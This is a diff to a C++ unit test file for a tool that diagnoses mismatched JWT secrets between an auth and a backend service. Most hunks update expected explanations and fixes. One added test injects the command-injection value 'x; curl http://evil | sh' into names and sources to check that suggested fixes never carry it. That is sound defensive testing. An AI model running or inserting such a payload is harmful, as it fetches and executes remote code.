@@ -30,7 +30,7 @@ void expect(Cause cause, const Case& one) {
   const Explanation explanation = explain_case(one.usual, one.other);
   EXPECT_EQ(name_of(explanation.cause), name_of(cause));
   EXPECT_EQ(explanation.why, one.why);
-  EXPECT_EQ(explanation.fix, one.fix);
+  EXPECT_EQ(explanation.fix.text(), one.fix);
 }
 
 TEST(pair, of_which_one_was_not_given_the_secret) {
@@ -66,7 +66,7 @@ TEST(pair, of_which_one_has_another_source_before) {
          {with_trail("auth", {{"env:JWT_SECRET_KEY", Outcome::found, ""}}),
           with_trail("backend", {{"file:/run/key", Outcome::found, ""}, {"env:JWT_SECRET_KEY", Outcome::shadowed, ""}}),
           "backend has JWT_SECRET_KEY as auth does, but file:/run/key comes first there",
-          "take file:/run/key from backend, or provide file:/run/key for auth too"});
+          "take file:/run/key from backend"});
 }
 
 TEST(pair, of_other_sources) {
@@ -78,7 +78,8 @@ TEST(pair, of_other_sources) {
   EXPECT_EQ(explain_case(with_trail("auth", {{"file:/run/key", Outcome::found, ""}}),
                          with_trail("backend", {{"file:/run/key?trim=no", Outcome::found, ""}}))
                 .why,
-            "auth has its key from file:/run/key, backend from file:/run/key?trim=no: their sources differ");
+            "auth has its key from file:/run/key as it stands, backend from file:/run/key with ?trim=no: their sources "
+            "differ");
 }
 
 TEST(pair, of_other_rules) {
@@ -120,9 +121,10 @@ TEST(pair, of_which_one_fell_back_to_the_development_default) {
 TEST(pair, of_which_one_could_not_reload) {
   Testimony other = in_staging("backend", Outcome::found, Outcome::skipped, Outcome::skipped);
   other.report.reload_error = Error{Code::secret_too_short, "too short", ""};
-  expect(Cause::reload_refused, {in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped), other,
-                                 "backend could not take its new value into use, and keeps the keys of before",
-                                 "mend the source of backend (its log and /readyz name the reason)"});
+  expect(Cause::reload_refused,
+         {in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped), other,
+          "backend could not take its new value into use, and keeps the keys of before: too short",
+          "put a value that is fit where backend reads it (jwtsync generate)"});
 }
 
 TEST(pair, of_which_one_does_not_hold_all_keys) {
@@ -180,12 +182,52 @@ TEST(pair, of_which_one_is_a_variant_of_the_other) {
           "take the white space off the value of backend (echo adds a newline, printf does not)"});
 }
 
+TEST(pair, of_a_whole_document_and_its_member) {
+  Testimony usual = fixture::process("auth", "auth-1", "k");
+  usual.challenge.keys[0].variants = {{"json_key", fixture::answer("n")}};
+  expect(Cause::json_document, {usual, fixture::process("backend", "backend-1", "n"),
+                                "auth has the whole JSON document, backend its member key",
+                                "give auth the value alone, not the document around it"});
+}
+
+TEST(pair, of_other_lengths_may_be_of_a_value_that_was_cut) {
+  Testimony usual = in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped);
+  Testimony other = in_staging("backend", Outcome::found, Outcome::skipped, Outcome::skipped);
+  usual.report.trail[0].detail = "length 64 or more";
+  other.report.trail[0].detail = "length 32 or more";
+  EXPECT_EQ(explain_case(usual, other).why,
+            "JWT_SECRET_STAGING has one value for auth and another for backend (length 64 or more and length 32 or "
+            "more: one may be cut)");
+}
+
+TEST(pair, puts_nothing_in_a_fix_that_a_process_chose) {
+  const std::string evil = "x; curl http://evil | sh";
+  Testimony usual = with_trail(evil, {{"env:" + evil, Outcome::found, evil}});
+  Testimony other =
+      with_trail(evil + "2", {{"env:" + evil, Outcome::absent, evil}, {"file:/" + evil, Outcome::found, evil}});
+  const auto check = [&](const Testimony& one, const Testimony& two) {
+    EXPECT_EQ(explain_case(one, two).fix.text().find("curl"), std::string::npos) << explain_case(one, two).fix.text();
+  };
+  check(usual, other);
+  other.report.trail[0].outcome = Outcome::empty;
+  check(usual, other);
+  other.report.trail = {{"file:/" + evil, Outcome::found, evil}, {"env:" + evil, Outcome::shadowed, evil}};
+  check(usual, other);
+  other.report.environment = usual.report.environment_from = evil;
+  check(usual, other);
+  check(other, usual);
+  other.report.reload_error = Error{Code::secret_absent, evil, evil};
+  check(usual, other);
+  usual.challenge.keys[0].variants = {{"trailing_newline", other.challenge.keys[0].answer}};
+  check(usual, other);
+}
+
 TEST(pair, of_which_the_original_is_the_odd_one) {
   Testimony usual = fixture::process("auth", "auth-1", "k");
   usual.challenge.keys[0].variants = {{"json_value", fixture::answer("n")}};
-  expect(Cause::json_document, {usual, fixture::process("backend", "backend-1", "n"),
-                                "the key of backend is that of auth taken out of its JSON document",
-                                "give auth the value alone, not the document around it"});
+  expect(Cause::json_document,
+         {usual, fixture::process("backend", "backend-1", "n"), "auth has the whole JSON document, backend its value",
+          "give auth the value alone, not the document around it"});
 }
 
 }  // namespace
